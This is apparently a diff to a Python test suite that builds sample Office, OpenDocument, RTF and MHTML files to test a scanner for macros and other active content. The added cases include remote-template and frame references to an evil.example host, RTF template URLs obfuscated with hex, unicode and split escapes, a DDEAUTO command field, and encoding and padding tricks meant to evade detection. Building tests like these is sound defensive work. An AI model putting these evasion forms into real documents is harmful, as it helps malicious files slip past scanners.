@@ -7,7 +7,7 @@ import base64
 from collections.abc import Mapping
 
 from tests.outlook_file import Storage, properties, write
-from tests.unit.documents import ODF, ODF_CONTENT, odf, packed
+from tests.unit.documents import ODF, ODF_CONTENT, OOXML, odf, packed
 from tests.unit.store.media_types.package_edits import change
 
 PROJECT_TYPE = "application/vnd.ms-office.vbaProject"
@@ -75,6 +75,10 @@ def build_open_document_forms(kind: str) -> Mapping[str, bytes]:
         "called in UTF-16": package({"content.xml": called.replace("UTF-8", "UTF-16").encode("utf-16")}),
         "called in the styles": package({"styles.xml": called}),
         "called within an object": package({"Object 1/content.xml": called}),
+        "called in an encoding of China": package({"content.xml": called.replace("UTF-8", "GB18030").encode()}),
+        "showing a page of another machine": body(
+            '<draw:floating-frame xmlns:draw="d" xlink:href="http://evil.example/a.odt" xmlns:xlink="x"/>'
+        ),
         "called behind a lot": body(" " * 3_000_000 + EVENT.format("script", CALL)),
         "called by a form": body(form.format(CALL)),
         "called by its name": body(
@@ -112,6 +116,8 @@ def build_text_forms() -> Mapping[str, bytes]:
         'xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">'
         '<pkg:part pkg:name="/word/p.bin" pkg:contentType="{}"/></pkg:package>'
     )
+    related = opc.replace("<pkg:part ", '<Relationship Type="{}" Target="{}"/><pkg:part ')
+    kinds = "http://schemas.microsoft.com/office/2006/relationships", f"{OOXML}/relationships"
     word = (
         '<?xml version="1.0"?><w:wordDocument '
         'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"{}>{}</w:wordDocument>'
@@ -128,9 +134,20 @@ def build_text_forms() -> Mapping[str, bytes]:
         "flat with a call": flat.format(EVENT.format("script", CALL)).encode(),
         "flat behind the words of a mail": f"<!-- MIME-Version: 1.0 -->{flat.format(source)[21:]}".encode(),
         "flat in UTF-16": flat.format(source).encode("utf-16"),
+        **{
+            f"flat in {encoding}": flat.replace("?>", f' encoding="{encoding}"?>', 1).format(source).encode(encoding)
+            for encoding in ("GB18030", "Shift_JIS", "Big5", "EUC-KR", "UTF-7", "HZ", "UTF-32")
+        },
+        "flat, declared far behind": flat.replace("?>", f'{" " * 900}encoding="EUC-JP"?>', 1).format(source).encode(),
         "flat behind a lot": flat.format(" " * 2_000_000 + source).encode(),
         "a package as XML": opc.format(PROJECT_TYPE).encode(),
         "a package as XML of a type": opc.format("application/vnd.ms-word.document.macroEnabled.main+xml").encode(),
+        "a package as XML by its relationship": related.format(f"{kinds[0]}/vbaProject", "p.bin", "a/b").encode(),
+        "a package as XML with a control": related.format(f"{kinds[1]}/control", "p.bin", "a/b").encode(),
+        "a package as XML with a template": related.format(
+            f"{kinds[1]}/attachedTemplate", "http://evil.example/a.dotm", "a/b"
+        ).encode(),
+        "a package as XML by a name": opc.replace("p.bin", "vbaProject.bin").format("a/b").encode(),
         "Word's XML": word.format("", "<w:docSuppData/>").encode(),
         "Word's XML that says so": word.format(' w:macrosPresent="yes"', "").encode(),
         "a saved page": page.format("", "base64", active).encode(),
@@ -140,6 +157,10 @@ def build_text_forms() -> Mapping[str, bytes]:
         ).encode(),
         "a saved page, quoted": page.format(sender, "quoted-printable", "Active=\r\nM=69me=00=00=01=F0").encode(),
         "a saved page, quoted further": page.format(sender, "quoted-printable", "=41ctiveMime=00=00=01=F0").encode(),
+        "a saved page behind a long field": ("X: " + "x" * 9_000 + "\r\n" + page.format("", "base64", active)).encode(),
+        "a saved page without a version": page.format("", "base64", active).partition("\n")[2].encode(),
+        "a saved page of a Mac": page.format("", "base64", active).replace("\r\n", "\r").encode(),
+        "a saved page with other characters": page.format("", "base64", f"Q-W!!N{active[3:]}").encode(),
         "a saved page, far behind": page.format(sender, "base64", "\r\n" * 9_000 + active).encode(),
         **{
             f"rich text with {name}": rich.format(text).encode()
@@ -152,6 +173,17 @@ def build_text_forms() -> Mapping[str, bytes]:
                 "a page": r"{\object\objhtml}",
                 "a template": r"{\*\template http://evil.example/a.dotm}",
                 "a template on a share": r"{\*\template \\\\evil\\share\\a.dot}",
+                **{
+                    f"a template written {name}": rf"{{\*\template{address}evil.example/a.dotm}}"
+                    for name, address in {
+                        "in hexadecimal": r"\'68\'74tp://",
+                        "in numbers": r" \u104?\u116?tp://",
+                        "in negative numbers": r" \u-65432?\u-65420?tp://",
+                        "in a group": " {http://",
+                        "in lines": " ht\r\ntp://",
+                        "with commands in it": r"0 \rtlch\ab0 h\b0 ttp://",
+                    }.items()
+                },
                 "a command": r"{\field{\*\fldinst {\rtlch\ab0 DDEAUTO c:\\\\windows}}}",
                 "an object far behind": " " * 400_000 + r"{\object{\*\objdata 01}}",
             }.items()
@@ -172,6 +204,12 @@ def build_old_forms() -> Mapping[str, bytes]:
     forms |= {
         f"a mail with {name}": write(properties({0x1000: "x"}, inner={name: macros}))
         for name in ("Macros", "_VBA_PROJECT_CUR", "VBA", "WordDocument", "workbook", "EncryptedPackage")
+    }
+    forms |= {
+        "a database": b"\0\1\0\0Standard Jet DB\0" + bytes(300),
+        "a newer database": b"\0\1\0\0Standard ACE DB\0" + bytes(300),
+        "a notebook of OneNote": bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(300),
+        "a page of help": b"?_\3\0" + bytes(300),
     }
     forms |= {"an installer": OLE + "Property\0".encode("utf-16-le")}
     forms |= {
